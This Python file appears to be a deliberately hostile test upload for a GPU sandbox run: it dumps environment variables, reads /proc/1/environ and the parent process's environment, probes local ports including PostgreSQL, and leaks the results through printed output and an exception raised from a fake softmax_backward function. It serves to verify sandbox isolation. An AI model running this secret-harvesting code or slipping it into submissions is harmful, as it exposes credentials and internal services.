"""Hostile upload for the GPU end-to-end run: hunts for secrets and tries to phone home.

It prints every environment variable, the environment of PID 1 and of its parent, tries the
local API port and PostgreSQL, and then raises with whatever it found, so anything it could
reach would land in the stored log or error message. The run passes if no secret appears.
"""
import os
import socket


def _read(path):
    try:
        with open(path, "rb") as handle:
            return handle.read().replace(b"\0", b" ").decode(errors="replace")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


found = {key: value for key, value in os.environ.items()}
found["/proc/1/environ"] = _read("/proc/1/environ")
found["/proc/ppid/environ"] = _read(f"/proc/{os.getppid()}/environ")
for port in (8765, 8000, 5432):
    try:
        socket.create_connection(("127.0.0.1", port), timeout=1).close()
        found[f"port {port}"] = "OPEN"
    except OSError as exc:
        found[f"port {port}"] = type(exc).__name__
print(found)


def softmax_backward(y, g):
    raise RuntimeError(f"leaked: {found}")
